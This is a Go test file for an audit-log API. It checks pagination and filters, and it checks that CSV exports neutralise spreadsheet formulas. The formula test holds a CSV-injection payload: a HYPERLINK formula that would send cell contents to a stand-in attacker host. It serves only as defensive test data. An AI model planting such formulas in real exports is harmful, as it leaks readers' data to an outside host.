package console

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/portier/portier/enrollment"
	"github.com/portier/portier/store"
)

type auditPage struct {
	Events     []*store.AuditEvent `json:"events"`
	NextCursor string              `json:"next_cursor"`
}

func (e *mdmEnv) auditPage(t *testing.T, path string) auditPage {
	t.Helper()
	code, body := e.call(t, RoleAuditor, "GET", path, "", nil)
	if code != http.StatusOK {
		t.Fatalf("GET %s: %d %s", path, code, body)
	}
	var p auditPage
	if err := json.Unmarshal([]byte(body), &p); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestAuditAPIPagesAndFilters(t *testing.T) {
	e := newMDMEnv(t, enrollment.Config{})
	base := time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC)
	for i := range 25 {
		ev := store.NewAuditEvent(base.Add(time.Duration(i)*time.Minute), fmt.Sprint("user:u", i%2, "@example.com"), []string{"device.view", "token.create"}[i%2], fmt.Sprint("d", i))
		if err := e.st.Write(context.Background(), store.Put(ev)); err != nil {
			t.Fatal(err)
		}
	}
	// Page through everything, newest first, 10 at a time.
	var seen []uint64
	path := "/api/v1/audit?limit=10"
	for pages := 0; ; pages++ {
		p := e.auditPage(t, path)
		for _, ev := range p.Events {
			seen = append(seen, ev.Seq)
		}
		if p.NextCursor == "" {
			if pages != 2 || len(p.Events) != 5 {
				t.Errorf("last page %d holds %d events", pages, len(p.Events))
			}
			break
		}
		path = "/api/v1/audit?limit=10&cursor=" + p.NextCursor
	}
	if len(seen) != 25 || seen[0] != 25 || seen[24] != 1 {
		t.Errorf("paged through %v, want 25..1", seen)
	}
	// A page that ends exactly at the end promises nothing more.
	if p := e.auditPage(t, "/api/v1/audit?limit=25"); p.NextCursor != "" || len(p.Events) != 25 {
		t.Errorf("full page: %d events, next %q", len(p.Events), p.NextCursor)
	}
	p := e.auditPage(t, "/api/v1/audit?order=asc&action=token.*&since="+base.Add(10*time.Minute).Format(time.RFC3339)+"&until="+base.Add(20*time.Minute).Format(time.RFC3339))
	if len(p.Events) != 5 || p.Events[0].Target != "d11" || p.Events[4].Target != "d19" {
		t.Errorf("filtered = %+v", p.Events)
	}
	if p := e.auditPage(t, "/api/v1/audit?actor=user:u0@example.com&target=d4"); len(p.Events) != 1 || p.Events[0].Hash == "" {
		t.Errorf("actor+target = %+v", p.Events)
	}
	for _, bad := range []string{"limit=0", "limit=1001", "cursor=abc", "order=sideways", "until=5"} {
		if code, body := e.call(t, RoleAuditor, "GET", "/api/v1/audit?"+bad, "", nil); code != http.StatusBadRequest {
			t.Errorf("?%s: %d %s, want 400", bad, code, body)
		}
	}
}

// An actor chosen by an attacker (a sign-in name) must not turn into a
// formula in the spreadsheet an auditor opens the CSV export in.
func TestAuditExportCSVDefusesFormulas(t *testing.T) {
	e := newMDMEnv(t, enrollment.Config{})
	ev := store.NewAuditEvent(time.Now(), `=HYPERLINK("https://evil.example/?"&A1,"x")`, "signin.failure", "@SUM(1+1)")
	ev.Detail = map[string]string{"reason": "bad, \"quoted\"\npassword"}
	if err := e.st.Write(context.Background(), store.Put(ev)); err != nil {
		t.Fatal(err)
	}
	code, body := e.call(t, RoleAuditor, "GET", "/api/v1/audit/export?format=csv&action=signin.failure", "", nil)
	if code != http.StatusOK {
		t.Fatalf("export: %d %s", code, body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV = %q (%v), want a header and one row", body, err)
	}
	if strings.Join(rows[0], ",") != "seq,id,at,actor,action,target,remote_ip,detail,prev,hash" {
		t.Errorf("header = %v", rows[0])
	}
	if rows[1][3] != `'`+ev.Actor || rows[1][5] != "'@SUM(1+1)" || !strings.Contains(rows[1][7], `\"quoted\"\npassword`) {
		t.Errorf("row = %q", rows[1])
	}
	// The export is audited, and the JSON lines carry the chain.
	code, body = e.call(t, RoleAuditor, "GET", "/api/v1/audit/export", "", nil)
	if code != http.StatusOK {
		t.Fatalf("export: %d", code)
	}
	lines := strings.Split(strings.TrimSpace(body), "\n")
	var last store.AuditEvent
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil || last.Action != "audit.export" || last.Actor != "token:tok_auditor" {
		t.Errorf("last exported line = %s (%v), want the first export's audit event", lines[len(lines)-1], err)
	}
	if h, _ := store.AuditHash(&last); h != last.Hash {
		t.Errorf("exported event does not hash to its hash")
	}
}
